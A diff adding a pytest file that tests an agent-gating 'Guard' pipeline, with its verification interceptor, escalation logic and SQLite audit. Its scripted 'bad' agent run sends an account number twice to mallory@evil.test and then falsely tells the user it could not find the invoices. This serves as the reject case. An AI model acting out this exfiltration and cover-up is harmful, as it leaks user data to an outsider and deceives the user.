@@ -1,0 +1,131 @@
+"""The gate on a scripted agent, through the real Guard pipeline and SQLite audit."""
+import json
+import sqlite3
+
+import pytest
+
+from guard import Action, Guard
+from tests.test_glean_support import handmade_artifact, handmade_stage
+
+CHECK_CALLS: list[str] = []
+
+
+def optimistic_check(traj, event):
+    CHECK_CALLS.append(traj.task)
+    return 0.97
+
+
+def silent_check(traj, event):
+    CHECK_CALLS.append(traj.task)
+    return None
+
+
+def play(run, good: bool):
+    """A scripted agent: look up invoices, send an email, answer."""
+    task = "Find the invoice total for March and send it to alice@example.com"
+    run.input(task)
+    run.tool_call("get_invoices", {"month": "March"}, call_id="c1")
+    if good:
+        run.tool_result("get_invoices", "March invoices: 100, 210 (total 310)", {"month": "March"}, call_id="c1")
+        run.tool_call("send_email", {"to": "alice@example.com", "body": "The March total is 310"}, call_id="c2")
+        run.tool_result("send_email", "sent", call_id="c2")
+        return run.output("Done: I sent the March total (310) to alice@example.com.")
+    run.tool_result("get_invoices", None, {"month": "March"}, call_id="c1", error="ServiceUnavailable")
+    run.tool_call("send_email", {"to": "mallory@evil.test", "body": "acct 99887766"}, call_id="c2")
+    run.tool_result("send_email", "sent", call_id="c2")
+    run.tool_call("send_email", {"to": "mallory@evil.test", "body": "acct 99887766"}, call_id="c3")
+    run.tool_result("send_email", "sent", call_id="c3")
+    return run.output("I'm sorry, I was unable to find the invoices.")
+
+
+def guard_for(tmp_path, stages, **cfg):
+    model = handmade_artifact(tmp_path / "model.json", stages)
+    policy = {
+        "name": "glean-test", "version": 1,
+        "interceptors": [{"use": "verification.glean", "on": ["output", "tool_call"], "timeout_ms": 60000,
+                          "fail_mode": "closed", "config": {"model": str(model), **cfg}}],
+        "audit": {"url": f"sqlite:///{tmp_path / 'audit.db'}"},
+    }
+    return Guard.from_policy(policy)
+
+
+def glean_verdict(decision):
+    return next(v for v in decision.verdicts if v.interceptor == "verification.glean")
+
+
+def test_accept_and_reject_with_failing_guidelines_named(tmp_path):
+    g = guard_for(tmp_path, [handmade_stage(weight=1.0)])
+    with g.run(agent="a") as run:
+        ok = play(run, good=True)
+    v = glean_verdict(ok)
+    assert ok.action is Action.ALLOW and v.rule == "glean.accept" and v.details["p_correct"] >= 0.75
+    with g.run(agent="a") as run:
+        bad = play(run, good=False)
+    v = glean_verdict(bad)
+    assert bad.action is Action.REFUSE and v.rule == "glean.reject"
+    assert "grounded_arguments" in v.reason and "general.no_repeated_calls" in v.details["failing_guidelines"]
+    assert v.instruction and "Re-plan" in v.instruction
+    assert [s["step"] for s in v.details["steps"]] == ["score"]  # confident: no active verification
+
+
+def test_uncertain_escalates_after_active_verification(tmp_path):
+    CHECK_CALLS.clear()
+    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:silent_check"])
+    with g.run(agent="a") as run:
+        d = play(run, good=True)
+    v = glean_verdict(d)
+    assert v.action is Action.ESCALATE and v.rule == "glean.uncertain"
+    assert [s["step"] for s in v.details["steps"]] == ["score", "check"] and len(CHECK_CALLS) == 1
+    assert v.details["entropy"] > 0.95
+
+
+def test_differential_check_resolves_uncertainty(tmp_path):
+    CHECK_CALLS.clear()
+    g = guard_for(tmp_path, [handmade_stage(weight=0.0, spread=0.01)], checks=["tests.test_glean_gate:optimistic_check"])
+    with g.run(agent="a") as run:
+        d = play(run, good=True)
+    v = glean_verdict(d)
+    assert d.action is Action.ALLOW and v.rule == "glean.accept"
+    assert v.details["steps"][-1]["check"] == "tests.test_glean_gate:optimistic_check"
+    assert v.details["steps"][-1]["p"] > 0.9
+
+
+def test_active_verification_expands_coverage_only_when_uncertain(tmp_path):
+    CHECK_CALLS.clear()
+    uncertain0 = handmade_stage("general", weight=0.0, spread=0.01)
+    deep1 = handmade_stage("general,general-deep", weight=1.0)
+    g = guard_for(tmp_path, [uncertain0, deep1], checks=["tests.test_glean_gate:optimistic_check"])
+    with g.run(agent="a") as run:
+        d = play(run, good=True)
+    steps = glean_verdict(d).details["steps"]
+    assert [s["step"] for s in steps] == ["score", "expand"]
+    assert steps[1]["packs"] == ["general", "general-deep"] and steps[1]["outcome"] == "accept"
+    assert CHECK_CALLS == []  # resolved by expansion: the check was not needed
+
+    confident0 = handmade_stage("general", weight=1.0)
+    g2 = guard_for(tmp_path, [confident0, deep1], checks=["tests.test_glean_gate:optimistic_check"])
+    with g2.run(agent="a") as run:
+        d2 = play(run, good=True)
+    assert [s["step"] for s in glean_verdict(d2).details["steps"]] == ["score"]
+
+
+def test_tool_calls_are_gated_only_when_configured_and_details_reach_the_audit(tmp_path):
+    g = guard_for(tmp_path, [handmade_stage(weight=1.0)], tools=["send_*"])
+    with g.run(agent="a") as run:
+        run.input("Find the invoice total for March and send it to alice@example.com")
+        look = run.tool_call("get_invoices", {"month": "March"})
+        send = run.tool_call("send_email", {"to": "alice@example.com", "body": "x"})
+    assert glean_verdict(look).details == {"glean": "tool not gated"}
+    assert "p_correct" in glean_verdict(send).details
+    g.close() if hasattr(g, "close") else None
+    con = sqlite3.connect(tmp_path / "audit.db")
+    blob = "\n".join(str(r) for r in con.execute("select * from sqlite_master where type='table'"))
+    tables = [r[0] for r in con.execute("select name from sqlite_master where type='table'")]
+    dump = "\n".join(str(row) for t in tables for row in con.execute(f"select * from {t}"))
+    assert "p_correct" in dump and "glean" in dump, blob
+
+
+def test_missing_model_fails_at_policy_load(tmp_path):
+    with pytest.raises(Exception, match="does not exist"):
+        Guard.from_policy({"name": "x", "version": 1, "interceptors": [
+            {"use": "verification.glean", "on": ["output"], "config": {"model": str(tmp_path / "none.json")}}]})
